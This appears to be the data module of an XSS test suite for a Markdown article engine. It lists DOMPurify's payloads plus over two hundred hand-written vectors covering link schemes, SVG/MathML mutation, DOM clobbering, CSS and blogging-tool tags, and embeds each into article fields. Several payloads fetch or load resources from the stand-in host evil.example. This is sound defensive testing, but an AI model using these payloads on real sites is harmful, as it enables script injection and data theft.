// The data of the XSS suite (xss.spec.mjs): DOMPurify's payloads, hand-written filter-evasion
// and Markdown-specific vectors, and the articles that carry each of them into every place an
// article's words reach the page.
//
// Every hand-written payload tries to do something the test can see: call alert() (a dialog),
// set window.__xss (the hook), or fetch https://evil.example/… (a request that is not an image).
import { readFileSync } from 'node:fs';

const base64 = (text) => Buffer.from(text).toString('base64');

/** A page that runs script as soon as it is shown: the target of data: URLs. */
const HTML_DOC = base64('<script>window.__xss=1;alert(1)</script>');
/** An SVG document with a handler and a script: harmless in <img>, live as a document. */
const SVG_DOC = base64(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"><script>alert(1)</script></svg>',
);

/** DOMPurify's 223 test payloads (the file the engine's native test reads). */
export function dompurifyPayloads() {
  const file = new URL('../../crates/articles/tests/fixtures/xss/dompurify-payloads.json', import.meta.url);
  return JSON.parse(readFileSync(file, 'utf8'));
}

// Hand-written vectors, by family: [what it tries, payload].
const HANDWRITTEN = {
  'Markdown link scheme': [
    ['plain javascript:', '[x](javascript:alert(1))'],
    ['mixed case', '[x](JaVaScRiPt:alert(1))'],
    ['leading space', '[x]( javascript:window.__xss=1)'],
    ['tab entity inside the scheme', '[x](java&#x09;script:alert(1))'],
    ['newline entity inside the scheme', '[x](java&#x0A;script:alert(1))'],
    ['decimal entity for the first letter', '[x](&#106;avascript:alert(1))'],
    ['the whole scheme as hex entities', '[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))'],
    ['named entity colon', '[x](javascript&colon;alert(1))'],
    ['numeric entity colon', '[x](javascript&#58;window.__xss=1)'],
    ['backslash-escaped colon', '[x](javascript\\:alert(1))'],
    ['control character before the scheme', '[x](\u0001javascript:alert(1))'],
    ['comment trick', '[x](javascript://%0aalert(1))'],
    ['fetch to the attacker', "[x](javascript:fetch('https://evil.example/md-link'))"],
    ['angle-bracket destination', '[x](<javascript:alert(1)>)'],
    ['angle-bracket destination with spaces', '[x](< javascript:alert(1) >)'],
    ['with a title', '[x](javascript:alert(1) "title")'],
    ['data:text/html, base64', `[x](data:text/html;base64,${HTML_DOC})`],
    ['data:text/html, plain', '[x](data:text/html,<script>window.__xss=1</script>)'],
    ['DATA:TEXT/HTML upper case', '[x](DATA:TEXT/HTML,<svg/onload=alert(1)>)'],
    ['tab before data:', '[x](\tdata:text/html,<script>alert(1)</script>)'],
    ['vbscript:', '[x](vbscript:alert(1))'],
    ['VBScript mixed case', '[x](VBScript:alert(1))'],
    ['data:image/svg+xml link', `[x](data:image/svg+xml;base64,${SVG_DOC})`],
    ['link text is HTML', '[<img src=x onerror=alert(1)>](https://evil.example/text)'],
    ['nested link in link', '[[x](javascript:alert(1))](javascript:alert(2))'],
  ],
  'Markdown image': [
    ['javascript: image', '![x](javascript:alert(1))'],
    ['data:image/svg+xml image with script', `![x](data:image/svg+xml;base64,${SVG_DOC})`],
    ['data:image/svg+xml image, plain text', '![x](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22alert(1)%22/%3E)'],
    ['data:text/html image', `![x](data:text/html;base64,${HTML_DOC})`],
    ['alt text breaks out', '![x"onerror="alert(1)](https://evil.example/alt.png)'],
    ['alt text is HTML', '![<img src=x onerror=alert(1)>](https://evil.example/alt2.png)'],
    ['title breaks out', '![x](https://evil.example/title.png "\\"onerror=\\"alert(1)")'],
    ['title closes the tag', '![x](https://evil.example/t.png "\\"><img src=x onerror=alert(1)>")'],
    ['image inside a javascript: link', '[![x](https://evil.example/i.png)](javascript:alert(1))'],
    ['vbscript: image', '![x](vbscript:alert(1))'],
  ],
  'reference-style link': [
    ['full reference', '[x][r]\n\n[r]: javascript:alert(1)'],
    ['angle-bracket definition with a title', '[x][r]\n\n[r]: <javascript:alert(1)> "t"'],
    ['image reference', '![x][r]\n\n[r]: javascript:alert(1)'],
    ['shortcut reference, mixed case', '[r]\n\n[r]: JaVaScRiPt:window.__xss=1'],
    ['collapsed reference to data:text/html', `[x][]\n\n[x]: data:text/html;base64,${HTML_DOC}`],
    ['definition title breaks out', '[x][r]\n\n[r]: https://evil.example/ "\\"><img src=x onerror=alert(1)>"'],
    ['entity-encoded definition', '[x][r]\n\n[r]: &#x6A;avascript:alert(1)'],
  ],
  autolink: [
    ['javascript: autolink', '<javascript:alert(1)>'],
    ['upper-case autolink', '<JAVASCRIPT:window.__xss=1>'],
    ['vbscript: autolink', '<vbscript:alert(1)>'],
    ['data:text/html autolink', `<data:text/html;base64,${HTML_DOC}>`],
    ['autolink with a quote', '<https://evil.example/"onmouseover="alert(1)>'],
    ['bare URL with a quote', 'https://evil.example/"onmouseover="alert(1)'],
    ['bare www link with a quote', 'www.evil.example/"onmouseover="alert(1)'],
    ['bare URL then HTML', 'https://evil.example/<img src=x onerror=alert(1)>'],
  ],
  'URL alone (for the link and cover positions)': [
    ['javascript:', 'javascript:alert(1)'],
    ['leading space', ' javascript:window.__xss=1'],
    ['leading tab', '\tjavascript:alert(1)'],
    ['tab inside', 'java\tscript:alert(1)'],
    ['control character first', '\u0001javascript:alert(1)'],
    ['mixed case', 'JaVaScRiPt:alert(1)'],
    ['vbscript:', 'vbscript:alert(1)'],
    ['data:text/html', 'data:text/html,<script>window.__xss=1</script>'],
    ['data:text/html;base64', `data:text/html;base64,${HTML_DOC}`],
    ['data:image/svg+xml', `data:image/svg+xml;base64,${SVG_DOC}`],
    ['entity-encoded', '&#106;avascript:alert(1)'],
  ],
  'attribute break-out': [
    ['double quote', '"><img src=x onerror=alert(1)>'],
    ['single quote', "'><svg onload=alert(1)>"],
    ['unquoted attribute', 'x onmouseover=alert(1) x='],
    ['closes <title>', '</title><script>alert(1)</script>'],
    ['closes <textarea>', '</textarea><script>window.__xss=1</script>'],
    ['closes a script string', "';alert(1);//"],
    ['template literal', '${alert(1)}`-alert(1)-`'],
  ],
  'SVG and MathML namespace': [
    ['mglyph style confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['mglyph comment in style', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'],
    ['mtext h1 svg style', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>'],
    ['form in math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
    ['svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
    ['svg script', '<svg><script>window.__xss=1;alert(1)</script></svg>'],
    ['svg script href', '<svg><script href="data:text/javascript,alert(1)"/></svg>'],
    ['svg a xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>'],
    ['svg a href', '<svg><a href="javascript:window.__xss=1"><rect width="100" height="100"/></a></svg>'],
    ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
    ['svg set href', '<svg><a><set attributeName=href to=javascript:alert(1) begin=0 /><text y=20>x</text></a></svg>'],
    ['svg use of a data: document', `<svg><use href="data:image/svg+xml;base64,${SVG_DOC}#x"/></svg>`],
    ['svg style with a tag inside', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
    ['svg title with a tag inside', '<svg><title><img src=x onerror=alert(1)></title></svg>'],
    ['p closes into svg', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    ['math maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>'],
    ['math href', '<math href="javascript:alert(1)">CLICKME</math>'],
    ['math mi xlink:href', '<math><mi xlink:href="data:x,<script>alert(1)</script>">X</mi></math>'],
  ],
  'raw-text and mutation': [
    ['noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['template content', '<template><img src=x onerror=alert(1)></template>'],
    ['template script', '<template><script>window.__xss=1</script></template>'],
    ['style with a tag inside', '<style><img src=x onerror=alert(1)></style>'],
    ['xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
    ['noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
    ['noframes', '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
    ['textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
    ['title element', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
    ['iframe srcdoc script', '<iframe srcdoc="<script>parent.__xss=1;alert(1)</script>"></iframe>'],
    ['iframe srcdoc escaped', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'],
    ['comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['comment --!>', '<!-- --!><img src=x onerror=alert(1)> -->'],
    ['CDATA outside foreign content', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
    ['processing instruction', '<?xml ><img src=x onerror=alert(1)>?>'],
    ['select template style', '<select><template><style><img src=x onerror=alert(1)>'],
    ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
    ['declarative shadow root', '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'],
  ],
  'DOM clobbering': [
    ['form id and input name=attributes', '<form id="__xss"><input name="attributes"><input name="action" value="javascript:alert(1)"></form>'],
    ['img name=body', '<img name="body" src="x"><img name="__xss" src="y">'],
    ['a id=__proto__', '<a id="__proto__" href="javascript:alert(1)">x</a><a id="__xss" name="__xss">x</a>'],
    ['input name=attributes', '<input name="attributes"><form name="__xss"><input id="attributes"></form>'],
    ['img id', '<img id="__xss" src=x>'],
    ['the app\'s own main id', '<a id="content" href="javascript:alert(1)">x</a>'],
    ['embed name', '<embed name="__xss" src="javascript:alert(1)">'],
    ['iframe name', '<iframe name="__xss" src="javascript:alert(1)"></iframe>'],
  ],
  'document-level elements': [
    ['meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['meta refresh away', '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">'],
    ['base href elsewhere', '<base href="https://evil.example/"><a href="x">relative</a>'],
    ['base href javascript:', '<base href="javascript:alert(1)//"><a href="x">relative</a>'],
    ['link rel=import', '<link rel="import" href="https://evil.example/import.html">'],
    ['link rel=stylesheet', '<link rel="stylesheet" href="https://evil.example/style.css">'],
    ['link rel=preload script', '<link rel="preload" as="script" href="https://evil.example/preload.js">'],
    ['object data javascript:', '<object data="javascript:alert(1)"></object>'],
    ['object data data:text/html', `<object data="data:text/html;base64,${HTML_DOC}"></object>`],
    ['embed src javascript:', '<embed src="javascript:alert(1)">'],
    ['embed src svg', `<embed src="data:image/svg+xml;base64,${SVG_DOC}">`],
    ['iframe src javascript:', '<iframe src="javascript:window.__xss=1"></iframe>'],
    ['iframe to the attacker', '<iframe src="https://evil.example/frame"></iframe>'],
    ['a video player with srcdoc', '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a video player with onload', '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>'],
    ['frameset', '<frameset onload=alert(1)>'],
    ['form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
    ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
    ['input image onerror', '<input type="image" src="x" onerror="alert(1)">'],
    ['autofocus onfocus', '<input autofocus onfocus="alert(1)">'],
    ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
    ['video source onerror', '<video><source onerror="alert(1)"></video>'],
    ['video poster', '<video poster="javascript:alert(1)" src="x" onerror="alert(1)"></video>'],
    ['audio onerror', '<audio src=x onerror=alert(1)>'],
    ['body onload', '<body onload=alert(1)>'],
    ['img onerror fetch', '<img src=x onerror="fetch(\'https://evil.example/onerror\')">'],
    ['script src to the attacker', '<script src="https://evil.example/x.js"></script>'],
  ],
  CSS: [
    ['style url(javascript:)', '<p style="background:url(javascript:alert(1))">x</p>'],
    ['style @import', "<style>@import 'https://evil.example/import.css';</style>"],
    ['style rule with javascript:', '<style>body{background:url("javascript:alert(1)")}</style>'],
    ['expression()', '<div style="width:expression(alert(1))">x</div>'],
    ['table cell style beyond text-align', '<table><tr><td style="text-align:left;background:url(javascript:alert(1));behavior:url(https://evil.example/x.htc)">x</td></tr></table>'],
    ['table header style beyond text-align', '<table><tr><th style="text-align:right;-moz-binding:url(https://evil.example/x.xml#x)">x</th></tr></table>'],
    ['svg style @import', '<svg><style>@import url(https://evil.example/svg.css)</style></svg>'],
    ['stylesheet data: URL', '<link rel=stylesheet href="data:text/css,@import url(https://evil.example/css)">'],
  ],
  'blogging-tool tags': [
    ['Hexo link', '{% link javascript:alert(1) %}'],
    ['Hexo link with text', '{% link click javascript:alert(1) %}'],
    ['Hexo iframe', '{% iframe javascript:alert(1) %}'],
    ['Hexo iframe data:', `{% iframe data:text/html;base64,${HTML_DOC} %}`],
    ['Hexo img', '{% img javascript:alert(1) %}'],
    ['Hexo img title break-out', '{% img https://evil.example/img.png 10 10 "\\"onerror=\\"alert(1)" %}'],
    ['Hexo youtube id break-out', '{% youtube "><img src=x onerror=alert(1)> %}'],
    ['Hexo blockquote author', '{% blockquote "><img src=x onerror=alert(1)> %}quote{% endblockquote %}'],
    ['Hexo note class', '{% note danger"><img src=x onerror=alert(1)> %}body{% endnote %}'],
    ['Hexo codeblock lang', '{% codeblock lang:"><img src=x onerror=alert(1)> %}x{% endcodeblock %}'],
    ['Hexo post_link', '{% post_link "><img src=x onerror=alert(1)> %}'],
    ['Hexo raw', '{% raw %}<script>window.__xss=1</script>{% endraw %}'],
    ['Hexo video', '{% video javascript:alert(1) %}'],
    ['Hugo figure src', '{{< figure src="javascript:alert(1)" >}}'],
    ['Hugo figure everything', '{{< figure src="x" alt="\\"><img src=x onerror=alert(1)>" caption="<script>alert(1)</script>" link="javascript:alert(1)" >}}'],
    ['Hugo youtube', '{{< youtube "\\"><script>alert(1)</script>" >}}'],
    ['Hugo vimeo', '{{< vimeo "1\\" onload=\\"alert(1)" >}}'],
    ['Hugo ref', '[x]({{< ref "javascript:alert(1)" >}})'],
    ['Hugo highlight', '{{< highlight "\\"><img src=x onerror=alert(1)>" >}}x{{< /highlight >}}'],
    ['Liquid output', '{{ "<script>alert(1)</script>" }}'],
    ['wikilink', '[[javascript:alert(1)]]'],
    ['wikilink with a label', '[[javascript:alert(1)|click]]'],
    ['wikilink label is HTML', '[[x|<img src=x onerror=alert(1)>]]'],
    ['Obsidian embed', '![[javascript:alert(1)]]'],
    ['Obsidian callout title', '> [!note] <img src=x onerror=alert(1)>\n> body'],
    ['Obsidian callout type', '> [!"><img src=x onerror=alert(1)>]\n> body'],
  ],
  'math, code and other Markdown': [
    ['TeX href', '$\\href{javascript:alert(1)}{click}$'],
    ['display TeX href', '$$\n\\href{javascript:window.__xss=1}{click}\n$$'],
    ['TeX text with HTML', '$\\text{<img src=x onerror=alert(1)>}$'],
    ['code span', '`<img src=x onerror=alert(1)>`'],
    ['double-backtick code span', '`` `<script>alert(1)</script>` ``'],
    ['code span closing code', '`</code><img src=x onerror=alert(1)>`'],
    ['fenced code', '```html\n<script>window.__xss=1</script>\n```'],
    ['fence info string is HTML', '```"><img src=x onerror=alert(1)>\nx\n```'],
    ['fence info string is a scheme', '~~~ javascript:alert(1)\nx\n~~~'],
    ['indented code', '    <script>alert(1)</script>'],
    ['footnote label', '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note'],
    ['heading attribute', '# Heading {#"onmouseover="alert(1)}'],
    ['heading onclick attribute', '# Heading {onclick=alert(1)}'],
    ['task list item', '- [x] <img src=x onerror=alert(1)>'],
    ['table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
    ['summary onclick', '<details><summary onclick=alert(1)>x</summary></details>'],
  ],
};

/** Every case: `{ id, title, payload }`, DOMPurify's first (dp-001…), then hand-written (hw-001…). */
export function allCases() {
  const pad = (n) => String(n).padStart(3, '0');
  const dompurify = dompurifyPayloads().map(({ title, payload }, n) => ({
    id: `dp-${pad(n + 1)}`,
    title: `DOMPurify: ${title}`,
    payload,
  }));
  const handwritten = Object.entries(HANDWRITTEN).flatMap(([family, vectors]) =>
    vectors.map(([what, payload]) => ({ family, title: `${family}: ${what}`, payload })),
  );
  return [...dompurify, ...handwritten.map((c, n) => ({ id: `hw-${pad(n + 1)}`, ...c }))];
}

/**
 * A YAML double-quoted scalar of `text`. JSON's escapes are YAML's, and every character outside
 * printable ASCII is escaped too: YAML does not take C0/C1 controls literally, and YAML 1.1
 * readers treat U+0085, U+2028 and U+2029 as line breaks.
 */
export function yamlString(text) {
  const hex = (code, width) => code.toString(16).toUpperCase().padStart(width, '0');
  let out = '"';
  for (const char of text) {
    const code = char.codePointAt(0);
    if (char === '"' || char === '\\') out += `\\${char}`;
    else if (code >= 0x20 && code <= 0x7e) out += char;
    else if (char === '\n') out += '\\n';
    else if (char === '\t') out += '\\t';
    else if (char === '\r') out += '\\r';
    else if (code > 0xffff) out += `\\U${hex(code, 8)}`;
    else out += `\\u${hex(code, 4)}`;
  }
  return `${out}"`;
}

/**
 * The articles that carry one case into every position, three per case:
 * - `<id>-fm.md`: the payload as title, author, the one tag, the one category and the cover,
 *   and as the whole body (read as Markdown). Front matter fields cannot disturb the body or
 *   one another (each is one escaped line), so one article tests all six places.
 * - `<id>-html.md`: the body `<div>\n<payload>\n</div>`, which the engine reads as HTML.
 * - `<id>-link.md`: the body `[click](<payload>)`, the payload as a link's URL. Apart from the
 *   body, because a body payload (an open `<!--`, `<plaintext>`) can swallow what follows it.
 * Each is `{ name, id, caseId, positions, fields, text }`: `id` is the app's id of a dropped
 * file, `fields` the front matter keys it has (so a test can tell the front matter was read).
 */
export function articlesFor(c) {
  // `fields` are written as YAML, one escaped line each; a list value is a one-item flow list.
  const article = (suffix, positions, fields, body) => ({
    name: `${c.id}-${suffix}.md`,
    id: `dropped/${c.id}-${suffix}`,
    caseId: c.id,
    positions,
    fields: Object.keys(fields),
    text: [
      '---',
      ...Object.entries(fields).map(([key, value]) =>
        `${key}: ${Array.isArray(value) ? `[${value.map(yamlString).join(', ')}]` : yamlString(value)}`,
      ),
      '---',
      '',
      body,
      '',
    ].join('\n'),
  });
  const p = c.payload;
  return [
    article(
      'fm',
      ['title', 'author', 'tag', 'category', 'cover', 'body (Markdown)'],
      { title: p, author: p, tags: [p], categories: [p], cover: p },
      p,
    ),
    article('html', ['body (HTML)'], { title: `XSS ${c.id} as HTML` }, `<div>\n${p}\n</div>`),
    article('link', ['link URL'], { title: `XSS ${c.id} as a link` }, `[click](${p})`),
  ];
}

/** A value as the filter panel writes it in the address (view.rs, links::encode_path). */
export function encodeValue(value) {
  return [...Buffer.from(value)]
    .map((byte) =>
      /[A-Za-z0-9\-_.~/]/.test(String.fromCharCode(byte)) && byte < 0x80
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** An SVG that runs script when it is opened as a document (never as an <img>). */
export const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"><script>window.__xss=1;alert(1)</script><rect width="10" height="10"/></svg>';
